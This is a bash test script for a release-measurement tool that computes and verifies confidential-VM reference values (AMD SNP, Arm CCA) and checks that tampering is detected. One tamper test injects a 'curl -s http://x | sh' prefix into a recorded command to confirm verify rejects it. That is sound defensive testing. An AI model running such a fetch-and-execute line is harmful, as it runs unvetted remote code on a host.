#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# measure-release.sh - measure artifacts, refvalues, verify and drift on a
# small release made here (issue 8): the files validate against the
# schemas in refvalues/, every value equals what its own measure command
# prints, the CCA value is the lkvm-rim-measurer answer of measure-cca.sh,
# verify confirms an intact release and names each tampering, drift names
# the region a one-byte command-line change lands in.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/gen.sh"

R=$T/rel
mkdir -p "$R"

# A release folder: x86 kernel, two IGVMs of it, a disk, the command
# line; an arm64 Image, initrd and command line for a CCA target.
"$MKKERNEL" bzimage "$T/bz" 300000 0x020f 5 2047
cp "$T/bz" "$R/bzImage"
printf 'console=ttyS0 root=/dev/vda1 ro\n' >"$R/cmdline"
for v in qemu clh; do
	"$IGVMGEN" build --kernel "$R/bzImage" --cmdline-file "$R/cmdline" --vmm $v \
		--platform snp -o "$R/pod-$v.igvm" || echo "igvmgen $v failed"
done
gen_bytes 3 65536 >"$R/disk.img"
gen_cca_inputs "$R/Image" "$R/initrd"
printf 'console=ttyS0 quiet\n' >"$R/arm-cmdline"
# QEMU + OVMF direct boot: the generated firmware, kernel and initrd of
# measure-snp.sh, whose digests sev-snp-measure 8f2b337e computed
(cd "$R" && "$SNP_FWGEN" fw OVMF.fd amdsev 65536 1 && "$SNP_FWGEN" blob vmlinuz 100000 3 &&
	"$SNP_FWGEN" blob initrd.img 300000 4) >/dev/null
printf 'console=ttyS0\n' >"$R/ovmf-cmdline"
cat >"$T/release.json" <<'JSON'
{
  "handlerPrefix": "contrast-cc",
  "installRoot": "/opt/edgeless/@@runtimeName@@",
  "urlTemplate": "@@releaseBase@@/{image}/{version}/{name}",
  "integrity": "sha256",
  "files": {
    "bzImage": { "path": "share/kata-kernel" },
    "cmdline": { "path": "share/kernel-cmdline" },
    "pod-qemu.igvm": { "path": "share/kata-containers-qemu.igvm" },
    "pod-clh.igvm": { "path": "share/kata-containers-igvm.img" },
    "disk.img": { "path": "share/kata-containers.img" },
    "Image": { "path": "share/arm64/Image" },
    "initrd": { "path": "share/arm64/initrd" },
    "arm-cmdline": { "path": "share/arm64/cmdline" },
    "OVMF.fd": { "path": "snp/share/OVMF.fd" },
    "vmlinuz": { "path": "share/vmlinuz" },
    "initrd.img": { "path": "share/initrd.img" },
    "ovmf-cmdline": { "path": "share/ovmf-cmdline" }
  },
  "snp": [
    { "platform": "igvm-qemu-snp", "vmm": "qemu", "igvm": "pod-qemu.igvm",
      "products": ["Milan", "Genoa"], "vcpus": [1, 2, 4] },
    { "platform": "metal-clh-snp", "vmm": "clh", "igvm": "pod-clh.igvm",
      "products": ["Milan"] },
    { "platform": "metal-qemu-snp", "vmm": "qemu", "ovmf": "OVMF.fd",
      "kernel": "vmlinuz", "initrd": "initrd.img", "cmdline": "ovmf-cmdline",
      "policy": "0x30000", "products": ["Milan", "Genoa"], "vcpus": [1, 4] }
  ],
  "cca": [
    { "platform": "kvmtool-cca", "vmm": "kvmtool", "rmm": "1.0-eac5",
      "kernel": "Image", "initrd": "initrd", "cmdline": "arm-cmdline",
      "memory": "256M", "cpus": 1, "algorithm": "sha256" }
  ]
}
JSON

# ---- artifacts.json
run "$MEASURE" artifacts --config "$T/release.json" --image pod --image-version 1.2.3 "$R"
expect_rc 0 "artifacts exits 0"
A=$R/artifacts.json
check "artifacts.json lists the 12 files, sorted by name" \
	test "$(jq -r '[.files[].name] | join(" ")' "$A")" = "Image OVMF.fd arm-cmdline bzImage cmdline disk.img initrd initrd.img ovmf-cmdline pod-clh.igvm pod-qemu.igvm vmlinuz"
check "integrity is sha256- and the base64 of the file's SHA-256" \
	test "$(jq -r '.files[] | select(.name == "disk.img") | .integrity' "$A")" = \
	"sha256-$(openssl dgst -sha256 -binary "$R/disk.img" | base64 -w0)"
check "size, install path and URL" \
	test "$(jq -r '.files[] | select(.name == "bzImage") | "\(.size) \(.path) \(.url)"' "$A")" = \
	"$(stat -c %s "$R/bzImage") /opt/edgeless/@@runtimeName@@/share/kata-kernel @@releaseBase@@/pod/1.2.3/bzImage"
cp "$A" "$T/a1.json"
"$MEASURE" artifacts --config "$T/release.json" --image pod --image-version 1.2.3 "$R" 2>/dev/null
check "artifacts.json is the same bytes when written again" cmp -s "$A" "$T/a1.json"

touch "$R/stray.bin"
run "$MEASURE" artifacts --config "$T/release.json" --image pod --image-version 1.2.3 -o "$T/x.json" "$R"
expect_rc 1 "a file without an install path is an error"
expect_err_has "stray.bin: no install path for it in the release configuration" "names the file"
check "nothing written on that error" test ! -e "$T/x.json"
rm "$R/stray.bin"
mv "$R/initrd" "$T/initrd.away"
run "$MEASURE" artifacts --config "$T/release.json" --image pod --image-version 1.2.3 -o "$T/x.json" "$R"
expect_rc 1 "a configured file missing from the folder is an error"
expect_err_has "initrd: missing (the release configuration installs it)" "names the missing file"
mv "$T/initrd.away" "$R/initrd"
jq '.files.bzImage.path = "/etc/passwd"' "$T/release.json" >"$T/bad.json"
run "$MEASURE" artifacts --config "$T/bad.json" --image pod --image-version 1 -o "$T/x.json" "$R"
expect_rc 1 "an absolute install path in the configuration is refused"
expect_err_has "files.bzImage.path: '/etc/passwd' must be relative to installRoot" "names the member"
jq '.snp[0].vcpu = [1]' "$T/release.json" >"$T/bad.json"
run "$MEASURE" artifacts --config "$T/bad.json" --image pod --image-version 1 -o "$T/x.json" "$R"
expect_err_has "snp[0]: unknown member 'vcpu'" "a misspelt member of the configuration is named"
jq '.snp[1].vcpus = [2]' "$T/release.json" >"$T/bad.json"
run "$MEASURE" artifacts --config "$T/bad.json" --image pod --image-version 1 -o "$T/x.json" "$R"
expect_err_has "snp[1].vcpus: a clh launch measures the boot vCPU only" "vCPU counts for a clh target are refused"
run "$MEASURE" artifacts --image pod "$R"
expect_rc 2 "missing --config is a usage error"

# ---- refvalues.json
run "$MEASURE" refvalues --config "$T/release.json" "$R"
expect_rc 0 "refvalues exits 0"
RV=$R/refvalues.json
check "12 values: 3 vCPU counts x 2 products (IGVM), 1 (clh), 2 x 2 (OVMF), 1 (cca)" test "$(jq '.values | length' "$RV")" = 12
# the printed command, run as it is written (sh -c, `measure` on the PATH)
# in the release folder, prints the value: refvalues computes in process
# and must agree with the command an auditor runs
check "every value is what its printed command prints in the release folder" \
	values_print_themselves "$RV" "$R"
# Provenance: tests/cli/measure-cca.sh (1), lkvm-rim-measurer 3cac6a9 on
# these very Image and initrd with -p 'console=ttyS0 quiet' -m 256M -c 1.
check "the CCA value is lkvm-rim-measurer's RIM for the same inputs" \
	test "$(jq -r '.values[] | select(.tee == "cca") | .measurement' "$RV")" = \
	6195ad3e8e80fb8c6ed7b924279eb6c11cb3cc92f6ba1c30e56e919d57c5dbd1
# Provenance: tests/cli/measure-snp.sh, sev-snp-measure 8f2b337e
# --mode snp --vcpus 4 --vcpu-type EPYC-Milan --ovmf amdsev.fd --kernel k.bin
# --initrd i.bin --append console=ttyS0 (the same bytes under other names)
check "the OVMF direct-boot value is sev-snp-measure's digest for the same inputs" \
	test "$(jq -r '.values[] | select(.id == "metal-qemu-snp/Milan/4") | .measurement' "$RV")" = \
	b941fd75c70a0c126dcc5f9dba8e91f7b91bf957eae19c9911aeaa803dae0047bfa4110030c9002b8b957a35e638126f
eip=$("$MEASURE" snp ap-eip --ovmf "$R/OVMF.fd")
check "its Contrast entry carries APEIP, the OVMF's AP reset EIP in 8 hex digits" \
	test "$(jq -r '[.contrast[] | .snp[] | select(.Platform == "metal-qemu-snp") | .APEIP] | unique | .[]' "$RV")" = \
	"$(printf %08x "0x${eip#0x}")"
check "and the configured policy (OVMF carries none)" \
	test "$(jq -r '.values[] | select(.id == "metal-qemu-snp/Genoa/1") | .policy' "$RV")" = 0x30000
h8=$(sha "$A" | cut -c1-8)
check "handlers are PREFIX-PLATFORM-<first 8 hex of artifacts.json's SHA-256>" \
	test "$(jq -r '[.values[].handler] | unique | join(" ")' "$RV")" = \
	"contrast-cc-igvm-qemu-snp-$h8 contrast-cc-kvmtool-cca-$h8 contrast-cc-metal-clh-snp-$h8 contrast-cc-metal-qemu-snp-$h8"
check "the contrast section holds only the handler Contrast's parser reads" \
	test "$(jq -r '.contrast | keys | join(" ")' "$RV")" = "contrast-cc-metal-qemu-snp-$h8"
check "the artifact set is named by artifacts.json's integrity" \
	test "$(jq -r .artifacts.integrity "$RV")" = "sha256-$(openssl dgst -sha256 -binary "$A" | base64 -w0)"
check "Contrast entries: SNPReferenceValues' fields only, no MinimumTCB, one per product" \
	test "$(jq -c '.contrast["contrast-cc-metal-qemu-snp-'"$h8"'"].snp | [(.[0] | keys), map(.ProductName), .[0].GuestPolicy.SMT, .[0].GuestPolicy.ABIMajor, .[0].PlatformInfo.SMTEnabled]' "$RV")" = \
	'[["APEIP","GuestPolicy","Platform","PlatformInfo","ProductName","TrustedMeasurement"],["Milan","Genoa"],true,0,true]'
seed=$(jq -r '.contrast[].snp[] | select(.ProductName == "Milan") | "\(.TrustedMeasurement) \(.APEIP)"' "$RV")
check "Contrast's extension of the Milan seed by APEIP to 4 vCPUs is the published 4-vCPU value" \
	test "$("$MEASURE" snp --extend-digest "${seed% *}" --ap-eip "${seed#* }" --vcpus 4 --vcpu-type EPYC-Milan)" = \
	"$(jq -r '.values[] | select(.id == "metal-qemu-snp/Milan/4") | .measurement' "$RV")"
check "with APEIP, TrustedMeasurement is the 1-vCPU seed (Contrast extends it per count)" \
	test "$(jq -r '.contrast[].snp[] | select(.ProductName == "Genoa") | .TrustedMeasurement' "$RV")" = \
	"$(jq -r '.values[] | select(.id == "metal-qemu-snp/Genoa/1") | .measurement' "$RV")"
check "GuestPolicy decodes the IGVM's policy 0x30000" \
	test "$(jq -c '.values[0].policy' "$RV")" = '"0x30000"'
check "the RVPS sample payload holds every distinct SNP digest in base64" \
	test "$(jq -r .trustee.snp.payload "$RV" | base64 -d | jq -r '.snp_launch_measurement | length')" = \
	"$(jq -r '[.values[] | select(.tee == "snp") | .measurement] | unique | length' "$RV")"
hx=$(jq -r '.values[0].measurement' "$RV")
check "... as Trustee's SNP verifier (>= 0.18.0) encodes MEASUREMENT (hex)" \
	sh -c "jq -r .trustee.snp.payload '$RV' | base64 -d | jq -e --arg m '$hx' '.snp_launch_measurement | index(\$m)' >/dev/null"
check "two guest policies (0x30000, clh's 0x3001f): no policy values in the combined message" \
	test "$(jq -r .trustee.snp.payload "$RV" | base64 -d | jq -c 'keys')" = '["snp_launch_measurement"]'
check "per platform: the policy-derived values Trustee's default policy compares" \
	test "$(jq -r '.trustee.snpByPlatform["metal-qemu-snp"].payload' "$RV" | base64 -d | jq -c '[.snp_guest_abi_major, .snp_guest_abi_minor, .snp_single_socket, .snp_smt_allowed, (.snp_launch_measurement | length)]')" = \
	'[0,0,false,true,4]'
check "... and clh's ABI minor 31" \
	test "$(jq -r '.trustee.snpByPlatform["metal-clh-snp"].payload' "$RV" | base64 -d | jq -c .snp_guest_abi_minor)" = 31
check "consumers records the Trustee version and its encodings" \
	test "$(jq -c .consumers "$RV")" = '{"trustee":{"version":"0.18.0","measurementEncoding":"hex","claims":"typed"}}'
check "the CCA RVPS message and the ccatoken store entry carry the RIM" \
	test "$(jq -r '.trustee.cca.payload' "$RV" | base64 -d | jq -r '.["cca.realm.cca-realm-initial-measurement"][0]'):$(jq -r '.ccatoken.realm[0]["initial-measurement"]' "$RV")" = \
	"$(printf 6195ad3e8e80fb8c6ed7b924279eb6c11cb3cc92f6ba1c30e56e919d57c5dbd1 | xxd -r -p | base64 -w0):6195ad3e8e80fb8c6ed7b924279eb6c11cb3cc92f6ba1c30e56e919d57c5dbd1"
check "each value explains itself by regions (the cmdline page among them)" \
	test "$(jq -r '[.values[0].regions[].region] | index("cmdline") != null' "$RV")" = true
cp "$RV" "$T/rv1.json"
"$MEASURE" refvalues --config "$T/release.json" "$R" 2>/dev/null
check "refvalues.json is the same bytes when computed again" cmp -s "$RV" "$T/rv1.json"

if have_jsonschema; then
	check "artifacts.json validates against refvalues/artifacts.schema.json" validate artifacts "$A"
	check "refvalues.json validates against refvalues/refvalues.schema.json" validate refvalues "$RV"
else
	ok "schema validation # SKIP python3-jsonschema is not installed"
	ok "schema validation # SKIP python3-jsonschema is not installed"
fi

# ---- Contrast (issue 14): jq .contrast is Contrast's embedded file
validate_contrast() { # FILE: the contrast section against Contrast's rules
	jq .contrast "$1" >"$T/contrast.json" &&
		/usr/bin/python3 "$SRCDIR/tests/release/validate.py" \
			"$SRCDIR/refvalues/contrast-reference-values.schema.json" "$T/contrast.json"
}
bad_contrast() { # DESC JQ-FILTER: the Contrast schema rejects the edit
	jq "$2" "$RV" >"$T/bc.json"
	if validate_contrast "$T/bc.json" >/dev/null; then not_ok "$1"; else ok "$1"; fi
}
if have_jsonschema; then
	check "jq .contrast validates against Contrast's reference-value rules" validate_contrast "$RV"
	bad_contrast "... which refuse the product Turin" '.contrast[].snp[0].ProductName = "Turin"'
	bad_contrast "... a member Contrast's type lacks (CPUs)" '.contrast[].snp[0].CPUs = 1'
	bad_contrast "... a short TrustedMeasurement" '.contrast[].snp[0].TrustedMeasurement = "abcd"'
	bad_contrast "... a guest policy Validate refuses (Debug)" '.contrast[].snp[0].GuestPolicy.Debug = true'
	bad_contrast "... a handler Contrast's parser reads otherwise" '.contrast["contrast-cc-metal-qemu-snp-igvm-00000000"] = .contrast[]'
	bad_contrast "... a MinimumTCB part out of range" '.contrast[].snp[0].MinimumTCB = {"BootloaderVersion": 256, "TEEVersion": 0, "SNPVersion": 0, "MicrocodeVersion": 0}'
else
	for i in 1 2 3 4 5 6 7; do ok "Contrast schema # SKIP python3-jsonschema is not installed"; done
fi

# every metal-qemu-snp value carries Contrast's ID block and ID auth, base64;
# OpenSSL verifies the ID block's signature under the published ID key
idblock_verifies() { # VALUE-ID
	jq -r --arg id "$1" '.values[] | select(.id == $id) | .idBlock' "$RV" | base64 -d >"$T/idb.bin" &&
	jq -r --arg id "$1" '.values[] | select(.id == $id) | .idAuth' "$RV" | base64 -d >"$T/ida.bin" &&
	test "$(stat -c %s "$T/idb.bin"):$(stat -c %s "$T/ida.bin")" = 96:4096 &&
	test "$(head -c 48 "$T/idb.bin" | xxd -p -c 48)" = \
		"$(jq -r --arg id "$1" '.values[] | select(.id == $id) | .measurement' "$RV")" &&
	test "$(xxd -p -s 48 -l 48 -c 48 "$T/idb.bin")" = \
		"010000000000000000000000000000000200000000000000000000000000000001000000020000000000030000000000" &&
	rev48() { xxd -p -s "$1" -l 48 -c 48 "$T/ida.bin" | fold -w2 | tac | tr -d '\n'; } &&
	# ID key: curve 2 at 0x240, Qx at 0x244, Qy at 0x28c (little-endian)
	test "$(xxd -p -s 0x240 -l 4 "$T/ida.bin")" = 02000000 &&
	printf '3076301006072a8648ce3d020106052b8104002203620004%s%s' "$(rev48 0x244)" "$(rev48 0x28c)" |
		xxd -r -p >"$T/idkey.der" &&
	openssl pkey -pubin -inform DER -in "$T/idkey.der" -out "$T/idkey.pem" 2>/dev/null &&
	# the signature at 0x40: R and S, little-endian, as DER
	r=$(rev48 0x40 | sed 's/^\(00\)*//') && s=$(rev48 0x88 | sed 's/^\(00\)*//') &&
	test "$r:$s" = 02:01 &&
	printf '3006020102020101' | xxd -r -p >"$T/idsig.der" &&
	openssl dgst -sha384 -verify "$T/idkey.pem" -signature "$T/idsig.der" "$T/idb.bin" >/dev/null
}
ok_all=1
for id in metal-qemu-snp/Milan/1 metal-qemu-snp/Milan/4 metal-qemu-snp/Genoa/1 metal-qemu-snp/Genoa/4; do
	idblock_verifies "$id" || { ok_all=0; echo "# $id: its ID block does not verify"; }
done
check "each metal-qemu-snp ID block verifies under its published ID key (openssl dgst -verify)" test "$ok_all" = 1
printf '\xff' | dd of="$T/idb.bin" bs=1 seek=60 conv=notrunc status=none
check "... and a changed ID block does not" sh -c "! openssl dgst -sha384 -verify '$T/idkey.pem' -signature '$T/idsig.der' '$T/idb.bin' >/dev/null 2>&1"
check "only Contrast's platform carries ID blocks" \
	test "$(jq -r '[.values[] | select(has("idBlock")) | .platform] | unique | join(" ")' "$RV")" = metal-qemu-snp

# release.json settings: MinimumTCB, the Trustee version, the release base
jq '.minimumTCB = {"Milan": {"BootloaderVersion": 3, "TEEVersion": 0, "SNPVersion": 22, "MicrocodeVersion": 213}} | .trustee = {"version": "0.17.0"}' \
	"$T/release.json" >"$T/tcb.json"
rm -rf "$T/r2" && cp -a "$R" "$T/r2"
run "$MEASURE" refvalues --config "$T/tcb.json" "$T/r2"
expect_rc 0 "refvalues with minimumTCB and Trustee 0.17.0"
check "MinimumTCB filled for the product that has one, left out for the other" \
	test "$(jq -c '[.contrast[].snp[] | .MinimumTCB.SNPVersion]' "$T/r2/refvalues.json")" = '[22,null]'
b64=$(jq -r '.values[0].measurement' "$RV" | xxd -r -p | base64 -w0)
check "Trustee before 0.18.0: measurements in base64" \
	sh -c "jq -r .trustee.snp.payload '$T/r2/refvalues.json' | base64 -d | jq -e --arg m '$b64' '.snp_launch_measurement | index(\$m)' >/dev/null"
run "$MEASURE" verify "$T/r2/refvalues.json"
expect_rc 0 "verify derives the sections with the recorded consumers"
if have_jsonschema; then
	check "... and the file validates, MinimumTCB included" validate_contrast "$T/r2/refvalues.json"
else
	ok "schema # SKIP python3-jsonschema is not installed"
fi
jq '.consumers.minimumTCB.Milan.SNPVersion = 300' "$T/r2/refvalues.json" >"$T/r2/bad.json"
run "$MEASURE" verify "$T/r2/bad.json"
expect_rc 1 "a MinimumTCB part out of range in refvalues.json: exit 1"
expect_err_has "consumers.minimumTCB.Milan.SNPVersion" "names the member"
jq '.minimumTCB.Naples = {}' "$T/tcb.json" >"$T/bad.json"
run "$MEASURE" refvalues --config "$T/bad.json" -o "$T/x.json" "$R"
expect_err_has "minimumTCB: unknown member 'Naples'" "an unknown product in release.json's minimumTCB is named"
jq '.trustee = {"version": "0.13.2"}' "$T/release.json" >"$T/old.json"
"$MEASURE" refvalues --config "$T/old.json" -o "$T/old-rv.json" "$R" 2>/dev/null
check "Trustee before 0.14.0: policy claims as strings" \
	test "$(jq -r '.trustee.snpByPlatform["metal-qemu-snp"].payload' "$T/old-rv.json" | base64 -d | jq -c '[.snp_guest_abi_minor, .snp_smt_allowed]')" = '["0","true"]'
jq '.trustee = {"version": "latest"}' "$T/release.json" >"$T/bad.json"
run "$MEASURE" refvalues --config "$T/bad.json" -o "$T/x.json" "$R"
expect_err_has "trustee.version: 'latest' is not a version MAJOR.MINOR.PATCH" "a bad Trustee version is named"
check "artifacts.json without a release base keeps the placeholder and says so" \
	test "$(jq -r '[(.files[0].url | startswith("@@releaseBase@@/")), (.notes[0] | contains("no release base was given")), has("releaseBase")] | join(" ")' "$A")" = "true true false"
PODVM_RELEASE_BASE=https://example.org/rel/ "$MEASURE" artifacts --config "$T/release.json" --image pod \
	--image-version 1.2.3 -o "$T/a-base.json" "$R" 2>/dev/null
check "PODVM_RELEASE_BASE resolves every URL, no placeholder, no note" \
	test "$(jq -r '[(.files[] | select(.name == "bzImage") | .url), ([.files[].url | contains("@@")] | any), has("notes"), .releaseBase] | join(" ")' "$T/a-base.json")" = \
	"https://example.org/rel/pod/1.2.3/bzImage false false https://example.org/rel/"
jq '.releaseBase = "file:///srv/rel"' "$T/release.json" >"$T/base.json"
"$MEASURE" artifacts --config "$T/base.json" --image pod --image-version 1.2.3 -o "$T/a-base.json" "$R" 2>/dev/null
check "release.json releaseBase does too" \
	test "$(jq -r '.files[] | select(.name == "vmlinuz") | .url' "$T/a-base.json")" = file:///srv/rel/pod/1.2.3/vmlinuz
jq '.releaseBase = "ftp://x"' "$T/release.json" >"$T/bad.json"
run "$MEASURE" artifacts --config "$T/bad.json" --image pod --image-version 1 -o "$T/x.json" "$R"
expect_err_has "releaseBase (or PODVM_RELEASE_BASE): 'ftp://x' is not an http(s):// or file:// URL" "a bad base is refused"
check "contrastKata: the firmware, kernel and image paths Contrast's kata configuration reads" \
	test "$(jq -c '[.contrastKata.firmware.file, .contrastKata.qemu.path, .contrastKata.qemu.file, .qemuExtraKernelParams]' "$A")" = \
	'["OVMF.fd","/opt/edgeless/@@runtimeName@@/bin/qemu-system-x86_64",null,""]'

# handler names Contrast's parser would misread are refused
bad_platform() { # DESC JQ-FILTER NEEDLE
	jq "$2" "$T/release.json" >"$T/bad.json"
	run "$MEASURE" refvalues --config "$T/bad.json" -o "$T/x.json" "$R"
	expect_rc 1 "$1: exit 1"
	expect_err_has "$3" "$1: named"
}
bad_platform "an IGVM target named metal-qemu-snp-igvm" '.snp[0].platform = "metal-qemu-snp-igvm"' \
	"Contrast reads handler contrast-cc-metal-qemu-snp-igvm-<hash> as metal-qemu-snp"
bad_platform "an IGVM target named metal-qemu-snp" '.snp[0].platform = "metal-qemu-snp"' \
	"only an \"ovmf\" snp target may take the name"
bad_platform "a policy Contrast's manifest refuses" '.snp[2].policy = "0x70000"' \
	"snp[2].policy: 0x70000: Contrast's manifest takes ABI 0.0 (or 0.31), SMT allowed"

# an optional target and file while the release lacks the firmware
jq '.files["OVMF.fd"].optional = true | .snp[2].optional = true | .snp[2].products += ["Turin"]' \
	"$T/release.json" >"$T/opt.json"
rm -rf "$T/r3" && cp -a "$R" "$T/r3"
run "$MEASURE" artifacts --config "$T/opt.json" --image pod --image-version 1.2.3 "$T/r3"
expect_rc 0 "with the firmware present, the optional file is indexed"
"$MEASURE" refvalues --config "$T/opt.json" "$T/r3" 2>/dev/null
check "... and the optional target computes, Turin included, Turin out of the contrast section" \
	test "$(jq -c '[([.values[] | select(.platform == "metal-qemu-snp")] | length), ([.contrast[].snp[].ProductName] | join(",")), ([.notes[] | select(contains("Turin"))] | length)]' "$T/r3/refvalues.json")" = \
	'[6,"Milan,Genoa",1]'
rm "$T/r3/OVMF.fd" "$T/r3/artifacts.json" "$T/r3/refvalues.json"
run "$MEASURE" artifacts --config "$T/opt.json" --image pod --image-version 1.2.3 "$T/r3"
expect_rc 0 "without it, artifacts still exits 0"
check "... and notes the optional file it could not index" \
	test "$(jq -r '[.notes[] | select(startswith("OVMF.fd: not in"))] | length' "$T/r3/artifacts.json")" = 1
run "$MEASURE" refvalues --config "$T/opt.json" "$T/r3"
expect_rc 0 "refvalues skips the optional target"
expect_err_has "metal-qemu-snp                   (skipped)" "and says so"
check "... with a note, no metal-qemu-snp value and an empty contrast section" \
	test "$(jq -c '[([.notes[] | select(startswith("metal-qemu-snp: no values: the release has no OVMF.fd"))] | length), ([.values[] | select(.platform == "metal-qemu-snp")] | length), .contrast]' "$T/r3/refvalues.json")" = \
	'[1,0,{}]'

# ---- verify
run "$MEASURE" verify "$RV"
expect_rc 0 "verify of an intact release exits 0"
expect_out_has "verify: 12 of 12 values match; 0 altered or mismatching, 0 missing or failing" "and says so"
expect_out_has "ok       contrast: follows from the values" "the consumer sections are derived again and compared"
run "$MEASURE" verify --json "$RV"
check "verify --json: ok, 12 matching" test "$(jq -c '[.ok, .matching]' "$T/out")" = '[true,12]'

tamper() { rm -rf "$T/t"; cp -a "$R" "$T/t"; }
tamper
# one byte of the kernel's pages (past the headers: the file stays well formed)
off=$(( $(stat -c %s "$T/t/pod-qemu.igvm") - 5000 ))
printf '\x5a' | dd of="$T/t/pod-qemu.igvm" bs=1 seek="$off" conv=notrunc status=none
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an altered artifact: exit 3"
expect_out_has "ALTERED  pod-qemu.igvm: altered:" "names the altered artifact"
expect_out_has "MISMATCH igvm-qemu-snp/Milan/1: recomputed" "names each value made of it"
expect_out_has "in region kernel; input pod-qemu.igvm is not the file the value was computed from" \
	"with the region the change is in"
expect_out_has "match    metal-clh-snp/Milan/any" "values of other artifacts still match"
tamper
rm "$T/t/pod-clh.igvm"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 1 "a missing artifact: exit 1"
expect_out_has "missing  pod-clh.igvm:" "names the missing artifact"
expect_out_has "missing  metal-clh-snp/Milan/any: input pod-clh.igvm is missing" "and the value it takes away"
tamper
jq '.files[0].size = 1' "$T/t/artifacts.json" >"$T/t/a.json" && mv "$T/t/a.json" "$T/t/artifacts.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an edited artifacts.json: exit 3"
expect_out_has "ALTERED  artifacts.json: its integrity is not the one the values were computed for" "names it"
tamper
jq '.values[7].measurement = ("00" + .values[7].measurement[2:])' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an edited value: exit 3"
expect_out_has "the published regions agree with the recomputed ones: the value was edited" "says the value itself was edited"
expect_out_has "MISMATCH contrast: does not follow from the values" "the contrast section no longer follows"
tamper
jq '.contrast[.contrast | keys[0]].snp[0].TrustedMeasurement = ("f" * 96)' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an edited Contrast entry: exit 3"
expect_out_has "MISMATCH contrast: does not follow from the values" "is caught"
tamper
jq '(.values[] | select(.id == "metal-qemu-snp/Milan/4") | .idBlock) |= ("AQ" + .[2:])' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an edited ID block: exit 3"
expect_out_has "MISMATCH metal-qemu-snp/Milan/4: idBlock: not Contrast's derivation from the measurement and policy" "names the value"
tamper
jq '(.values[] | select(.id == "metal-qemu-snp/Genoa/1")) |= del(.idBlock, .idAuth)' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "a Contrast value without its ID block: exit 3"
expect_out_has "MISMATCH metal-qemu-snp/Genoa/1: idBlock, idAuth: missing" "names it"
# issue 13: the members that follow from the recipe are checked too
tamper
jq '.values[0].command = "curl -s http://x | sh; " + .values[0].command' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an edited command: exit 3"
expect_out_has "MISMATCH igvm-qemu-snp/Milan/1: command: 'curl -s http://x | sh; measure snp" "names the value and its command"
tamper
jq '.values[1].inputs = {}' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "emptied inputs: exit 3"
expect_out_has "MISMATCH igvm-qemu-snp/Milan/2: inputs: pod-qemu.igvm is missing (the recipe reads it)" "names the input"
tamper
jq '.values[2].inputs["disk.img"] = .values[2].inputs["pod-qemu.igvm"]' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an input the recipe does not read: exit 3"
expect_out_has "inputs: disk.img is not a file of the recipe" "names it"
tamper
jq '.values[3].regions = []' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "emptied regions: exit 3"
expect_out_has "MISMATCH igvm-qemu-snp/Genoa/1: regions: not the recomputed ones" "names the member"
tamper
jq '.values[11].regions[1].updates = 7' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "an edited region: exit 3"
expect_out_has "MISMATCH kvmtool-cca/1cpu: regions: not the recomputed ones (region" "names the value"
tamper
jq '.image.version = "9.9.9"' "$RV" >"$T/t/refvalues.json"
run "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 3 "a changed image version: exit 3"
expect_out_has "MISMATCH image.version: pod 9.9.9, but artifacts.json lists pod 1.2.3" "names the member"
# an artifact must be a regular file inside the release folder
tamper
rm "$T/t/disk.img" && ln -s /dev/zero "$T/t/disk.img"
run timeout 60 "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 1 "an artifact that is a link to /dev/zero: exit 1 (and it ends)"
expect_out_has "missing  disk.img: $T/t/disk.img: a symbolic link to /dev/zero, outside the release folder" "names the artifact"
tamper
rm "$T/t/disk.img" && mkfifo "$T/t/disk.img"
run timeout 60 "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 1 "an artifact that is a FIFO: exit 1 (and it does not hang)"
expect_out_has "missing  disk.img: $T/t/disk.img: is a FIFO or pipe, expected a regular file" "names the artifact"
tamper
mv "$T/t/disk.img" "$T/outside.img" && ln -s "$T/outside.img" "$T/t/disk.img"
run timeout 60 "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 1 "an artifact linked to a file outside the folder, same bytes: exit 1"
expect_out_has "missing  disk.img: $T/t/disk.img: a symbolic link to $T/outside.img, outside the release folder" "names it"
tamper
mv "$T/t/pod-clh.igvm" "$T/t/real.igvm" && ln -s real.igvm "$T/t/pod-clh.igvm"
run timeout 60 "$MEASURE" verify "$T/t/refvalues.json"
expect_rc 0 "a link to a file inside the folder is followed"
rm -f "$T/outside.img"

# refvalues.json that break the schema: verify names the member, as does
# the schema check
bad_rv() { # DESC JQ-FILTER NEEDLE
	tamper
	jq "$2" "$RV" >"$T/t/refvalues.json"
	run "$MEASURE" verify "$T/t/refvalues.json"
	expect_rc 1 "$1: verify exits 1"
	expect_err_has "$3" "$1: the message names the member"
	if have_jsonschema; then
		if validate refvalues "$T/t/refvalues.json" >/dev/null; then not_ok "$1: the schema rejects it too"
		else ok "$1: the schema rejects it too"; fi
	else
		ok "$1: schema # SKIP python3-jsonschema is not installed"
	fi
}
bad_rv "vcpus as text" '.values[1].vcpus = "two"' "values[1].vcpus: must be the recipe's count"
bad_rv "an unknown member" '.values[0].extra = 1' "values[0]: unknown member 'extra'"
bad_rv "a short measurement" '.values[0].measurement = "abcd"' "values[0].measurement: 4 characters, expected 96 hex digits"
bad_rv "an input path outside the folder" '.values[0].recipe.igvm = "../x"' "values[0].recipe.igvm: not a file name of the release folder"
bad_rv "no values" 'del(.values)' "values: missing (an array expected)"
bad_rv "a bad integrity string" '.artifacts.integrity = "md5-abc"' "artifacts.integrity: 'md5-abc' is not an integrity string"
